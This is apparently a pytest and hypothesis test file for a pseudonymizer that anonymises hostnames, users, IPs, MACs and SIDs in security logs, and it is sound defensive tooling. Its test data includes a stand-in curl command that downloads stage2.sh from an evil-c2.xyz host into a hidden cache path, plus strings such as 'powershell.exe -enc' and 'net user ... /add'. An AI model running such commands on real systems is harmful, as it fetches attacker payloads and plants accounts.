"""Free text: every known entity replaced, token by token, so that cut-out strings still match."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_soclab.pseudonymize import Pseudonymizer

KEY = b"text-test-key-0123456789abcdef"

HOSTS = ["web-01", "db-02", "WS-FIN-07", "dc01.corp.acme-widgets.com"]
USERS = ["alice", "bob.smith", "svc_backup"]
DOMAINS = ["update-check.evil-c2.xyz", "acme-widgets.com"]
IPS = ["185.220.101.47", "10.20.1.15", "2a01:4f8:c0c:1234::5", "::ffff:10.20.1.16", "fe80::1"]
ENTITY_TOKENS = (
    HOSTS
    + USERS
    + DOMAINS
    + IPS
    + [
        "alice@acme-widgets.com",
        "http://update-check.evil-c2.xyz/stage2.sh?u=alice",
        "/home/alice/.cache/.sysupdate",
        "C:\\Users\\bob.smith\\AppData",
        "00-15-5D-01-02-03",
        "S-1-5-21-3623811015-3361044348-30300820-1013",
        "ACME\\svc_backup",
        "47.101.220.185.in-addr.arpa",
    ]
)
FILLER = [
    "curl",
    "-s",
    "-o",
    "sudo",
    "Accepted",
    "publickey",
    "for",
    "from",
    "port",
    "51234",
    "ssh2",
    "T1105",
    "3f786850e387550fdab836ed7e6dc881de23001b0d2cb5e4b5a6f6c0f5d6c0a1",
    "tcp",
    "payload.sh",
    "GET",
    "HTTP/1.1",
    "powershell.exe",
    "-enc",
    "12:30:45",
    "version",
    "v1.2.3",
    "ok",
    "443",
]
SEPARATORS = [" ", ", ", "=", "; ", "\t", " | ", '"', "'", "(", ")", "\n"]


def _learned() -> Pseudonymizer:
    p = Pseudonymizer(KEY)
    for h in HOSTS:
        p.learn_host(h)
    for u in USERS:
        p.learn_user(u)
    for d in DOMAINS:
        p.learn_domain(d)
    p.learn_user("ACME\\svc_backup")
    return p


P = _learned()


@st.composite
def texts(draw):  # type: ignore[no-untyped-def]
    tokens = draw(st.lists(st.sampled_from(ENTITY_TOKENS + FILLER), min_size=1, max_size=12))
    seps = draw(st.lists(st.sampled_from(SEPARATORS), min_size=len(tokens) - 1, max_size=len(tokens) - 1))
    i = draw(st.integers(min_value=0, max_value=len(tokens) - 1))
    j = draw(st.integers(min_value=i + 1, max_value=len(tokens)))
    parts = [tokens[0]]
    for sep, tok in zip(seps, tokens[1:]):
        parts += [sep, tok]
    full = "".join(parts)
    cut = "".join(parts[2 * i : 2 * j - 1])
    return full, cut


@settings(max_examples=400, deadline=None)
@given(texts())
def test_a_string_cut_from_text_stays_findable(sample: tuple[str, str]) -> None:
    """What must_find and IOCs rely on: T(cut) is in T(text) when cut is whole tokens of text."""
    full, cut = sample
    assert P.text(cut) in P.text(full)


@settings(max_examples=300, deadline=None)
@given(texts())
def test_no_known_entity_survives_in_text(sample: tuple[str, str]) -> None:
    out = P.text(sample[0])
    low = out.lower()
    for name in [
        "web-01",
        "db-02",
        "ws-fin-07",
        "alice",
        "bob.smith",
        "svc_backup",
        "acme-widgets",
        "evil-c2",
        "update-check",
        "dc01",
        "3623811015",
        "5d-01-02-03",
    ]:
        assert not re.search(rf"(?<![\w.-]){re.escape(name)}(?![\w-])", low), (name, out)
    for ip in ["185.220.101.47", "10.20.1.15", "2a01:4f8:c0c:1234::5", "10.20.1.16", "185.220.101"]:
        assert ip not in out
    # What is kept is kept.
    for kept in [
        "T1105",
        "3f786850e387550fdab836ed7e6dc881de23001b0d2cb5e4b5a6f6c0f5d6c0a1",
        "payload.sh",
        "powershell.exe",
        "51234",
        "tcp",
        "12:30:45",
    ]:
        if kept in sample[0]:
            assert kept in out


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_text_is_handled_deterministically(s: str) -> None:
    once = P.text(s)
    assert P.text(s) == once
    fresh = _learned()
    assert fresh.text(s) == once  # a pure function of key + learned names, not of history


def test_entities_in_a_command_line() -> None:
    p = P
    cmd = "curl -s http://update-check.evil-c2.xyz/stage2.sh -o /home/alice/.cache/.sysupdate && ssh alice@10.20.1.15"
    out = p.text(cmd)
    assert out == (
        f"curl -s http://{p.name('update-check')}.{p.name('evil-c2')}.xyz/stage2.sh -o "
        f"/home/{p.name('alice')}/.cache/.sysupdate && ssh {p.name('alice')}@{p.ip('10.20.1.15')}"
    )


def test_cidr_and_globs_in_text() -> None:
    p = P
    out = p.text("allow 10.20.1.0/24 deny 185.220.101.*")
    net = p.ips.network("10.20.1.0", 24)
    glob = p.ips.octet_glob([185, 220, 101])
    assert out == f"allow {net} deny {glob}"


def test_mac_keeps_the_vendor_and_sid_keeps_the_rid() -> None:
    p = P
    mac = p.text("00-15-5D-01-02-03")
    assert mac.startswith("00-15-5D-") and mac != "00-15-5D-01-02-03" and mac == mac.upper()
    assert p.text("00:15:5d:01:02:03").startswith("00:15:5d:")
    sid = p.text("S-1-5-21-3623811015-3361044348-30300820-1013")
    assert sid.startswith("S-1-5-21-") and sid.endswith("-1013") and "3623811015" not in sid
    assert p.text("S-1-5-18") == "S-1-5-18"  # well-known SIDs are not domain SIDs


def test_regex_patterns_follow_the_text() -> None:
    p = P
    for pattern, text in [
        (r"185\.220\.101\.47", "from 185.220.101.47 port 1"),
        (r"(?i)\bweb-01\b", "on WEB-01 today"),
        (r"update-check\.evil-c2\.xyz/\w+\.sh", "GET http://update-check.evil-c2.xyz/stage2.sh"),
        (r"185\.220\.101\.\d+", "from 185.220.101.47"),
        (r"Accepted publickey for \w+ from \S+", "Accepted publickey for alice from 10.20.1.15"),
    ]:
        assert re.search(pattern, text)
        new = p.regex(pattern)
        assert re.search(new, p.text(text)), (pattern, new, p.text(text))
        assert "220\\.101" not in new and "web-01" not in new.lower() and "evil-c2" not in new


@pytest.mark.parametrize(
    ("text", "learned"),
    [
        ("Accepted password for alice from 203.0.113.5 port 22 ssh2", "alice"),
        ("Failed password for invalid user mallory from 203.0.113.5 port 22 ssh2", "mallory"),
        ("pam_unix(sshd:session): session opened for user erin(uid=1004) by (uid=0)", "erin"),
        ("pam_unix(sudo:session): session closed for user erin2", "erin2"),
        ("Invalid user mallory2 from 203.0.113.5 port 4242", "mallory2"),
        ("frank : TTY=pts/0 ; PWD=/home/frank ; USER=root ; COMMAND=/bin/ls", "frank"),
        ("scp report.pdf grace@fileserver-3:/tmp/", "grace"),
        ("scp report.pdf grace@fileserver-3:/tmp/", "fileserver-3"),
        ("copy \\\\filesrv02\\share\\x.docx .", "filesrv02"),
        ("C:\\Users\\heidi\\AppData\\Local\\Temp\\a.exe", "heidi"),
        ("/var/spool/cron/crontabs/ivan", "ivan"),
        ("runas /user:CORP\\judy cmd.exe", "judy"),
        ("useradd -m -s /bin/bash mallet", "mallet"),
        ("net user oscar P@ss /add", "oscar"),
        ("sudo -u peggy id", "peggy"),
        ("login failed user=trent src=10.0.0.9", "trent"),
        ("https://victor:hunter2@intranet.acme-widgets.com/x", "victor"),
        ("mail to walter@acme-widgets.com", "walter"),
    ],
)
def test_names_revealed_by_their_context_are_learned(text: str, learned: str) -> None:
    p = Pseudonymizer(KEY)
    p.learn_text(text)
    assert learned in p.known.bare
    assert learned not in p.text(text).lower()


def test_user_at_host_waits_for_the_host_to_be_known() -> None:
    p = Pseudonymizer(KEY)
    p.learn_text("deploy key of quentin@build-07")  # not an ssh command: could be anything
    assert "quentin" not in p.known.bare
    p.learn_host("build-07")  # ...until build-07 turns out to be a host
    assert "quentin" not in p.text("quentin@build-07")
    q = Pseudonymizer(KEY)  # the other order gives the same result
    q.learn_host("build-07")
    q.learn_text("deploy key of quentin@build-07")
    assert q.text("quentin@build-07") == p.text("quentin@build-07")


def test_file_names_with_tld_like_extensions_are_not_mistaken_for_domains() -> None:
    p = Pseudonymizer(KEY)
    p.learn_text("image@2x.png and notes@home")
    assert p.text("bash /tmp/payload.sh; python3 run.py") == "bash /tmp/payload.sh; python3 run.py"


def test_addresses_next_to_punctuation_are_found() -> None:
    p = P
    out = p.text("see ...185.220.101.47, --00:15:5d:01:02:03 (10.20.1.15)")
    assert "185.220.101.47" not in out and "10.20.1.15" not in out and "01:02:03" not in out
    assert p.text("version 1.2.3.4.5") == "version 1.2.3.4.5"


_ALPHABET = "0123456789abcdefABCDEFSxyz.:-_/%*\\@ '\"=,()[]\t"


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(ENTITY_TOKENS + FILLER), st.text(alphabet=_ALPHABET, max_size=12)),
        max_size=8,
    )
)
def test_the_fast_path_equals_the_plain_scan(pieces: list[str]) -> None:
    """compute() cuts text into runs and skips the scan for plain words: it must give exactly what
    one scan of the whole text gives."""
    from pytest_soclab.pseudonymize.text import _TEXT

    s = "".join(pieces)
    P.texts.sync()
    assert P.texts.compute(s) == _TEXT.sub(P.texts._sub_text, s)


def test_an_address_inside_a_dotted_word() -> None:
    p = P
    ip = p.ip("10.20.1.15")
    assert p.text("host.10.20.1.15") == f"host.{ip}"
    assert p.text("10.20.1.15.log") == f"{ip}.log"
    for version in ["1.2.3.4.5", "v1.2.3.4.5", "python3.11.2.1.4", "10.0.19041.1"]:  # versions, not addresses
        assert p.text(version) == version


@pytest.mark.parametrize(
    "text",
    [
        "Microsoft COM for Windows",  # a DLL's description in Sysmon's image loads
        "Net shell helper DLL for winHttp",
        "Windows Firewall rule for Python",
    ],
)
def test_prose_that_ends_in_for_a_word_names_no_account(text: str) -> None:
    p = Pseudonymizer(KEY)
    p.learn_text(text)
    assert not p.known.bare
    assert p.text(text) == text


def test_product_accounts_keep_their_prefix_and_shape() -> None:
    """Azure AD Connect's MSOL_<hex>: analysts tell the account by its prefix; the hex is the installation's."""
    p = Pseudonymizer(KEY)
    p.learn_user("MSOL_2826475d0356")
    out = p.text("An account was logged on: MSOL_2826475d0356 from the sync server")
    m = re.search(r"\bMSOL_([0-9a-f]{12})\b", out, re.IGNORECASE)
    assert m is not None and "2826475d0356" not in out, out
    assert p.text("MSOL_2826475d0356") == m.group(0)


def test_powershell_host_programs_are_no_machines() -> None:
    """PowerShell's events say which program hosted it as HostName=: no machine's name."""
    text = "UserId=CORP\\bob\r\n\tHostName=Windows PowerShell ISE Host\r\n\tHostVersion=5.1\r\n\tHostName=ConsoleHost\r\n"
    p = Pseudonymizer(KEY)
    p.learn_text(text)
    assert "windows" not in p.known.bare and "consolehost" not in p.known.bare
    q = Pseudonymizer(KEY)
    q.learn_text("host=web-01 user=bob")  # a key that another key follows is still a host
    assert "web-01" in q.known.bare
